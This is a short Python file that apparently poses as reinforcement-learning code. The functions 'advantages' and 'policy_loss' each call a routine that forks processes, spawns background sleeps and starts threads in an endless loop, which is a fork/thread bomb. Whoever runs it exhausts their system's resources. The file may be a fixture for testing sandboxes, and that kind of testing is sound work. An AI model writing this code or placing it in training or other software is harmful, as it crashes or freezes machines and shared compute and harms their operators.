"""Starts processes and threads without end."""

import os
import subprocess
import threading
import time


def bomb():
    for start in (os.fork, lambda: subprocess.Popen(["sleep", "1000"]), lambda: os.system("sleep 1000 &")):
        try:
            start()
        except OSError:
            pass
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()


def advantages(rewards):
    bomb()


def policy_loss(logprobs, advantages, mask):
    bomb()
